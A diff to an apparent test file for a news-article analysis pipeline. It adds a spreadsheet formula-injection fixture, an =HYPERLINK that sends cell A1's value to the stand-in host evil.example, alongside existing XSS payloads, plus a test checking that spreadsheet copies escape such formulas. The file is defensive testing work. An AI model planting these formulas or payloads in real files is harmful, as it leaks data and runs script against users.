@@ -304,6 +304,7 @@ EVIL_ARTICLE = (
     "Pangkalan udara Rusia di Kant memperkuat kerja sama pertahanan kedua negara <img src=x onerror=alert(2)>.\n"
     "Baca selengkapnya [di sini](javascript:alert(3)) dan $$\\href{javascript:alert(4)}{x}$$ menurut TASS.\n"
     "Kremlin menolak berkomentar </textarea><svg onload=alert(5)> soal kunjungan itu.\n"
+    '=HYPERLINK("http://evil.example/?q="&A1, "Klik di sini untuk membaca berita Putin selengkapnya")\n'
 )
 EVIL_NAME = "zz_<img src=y onerror=alert(6)>evil.txt"  # markup in a file name
 SMALL_RUN = {"k_values": [2, 3], "n_topics": 2, "n_seeds": 2}
@@ -335,6 +336,20 @@ def test_article_markup_shows_as_text(evil_runs):
         assert not [t for t in tags if "javascript:" in t.lower()], name  # no javascript: link
         assert "<svg" not in text and "</textarea><svg" not in text and "<img src=y" not in text, name
         assert "<script>alert" not in text, name
+
+
+def test_spreadsheet_copies_neutralise_formulas(evil_runs):
+    import csv
+
+    tables = evil_runs[0].run_dir / "tables"
+    formula = '=HYPERLINK("http://evil.example/?q="&A1, "Klik di sini untuk membaca berita Putin selengkapnya")'
+    assert formula in read_table(tables / "paragraphs.csv")["text"].tolist()  # the table keeps the text as written
+    with (tables / "spreadsheet" / "paragraphs.csv").open(encoding="utf-8-sig", newline="") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert "'" + formula in cells and formula not in cells
+    assert not [c for c in cells if c.startswith(("=", "+", "@")) or (c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit())]
+    copies = {p.name for p in (tables / "spreadsheet").glob("*.csv")}
+    assert copies == {p.name for p in tables.glob("*.csv")}
 
 
 def test_two_runs_give_identical_tables(evil_runs):
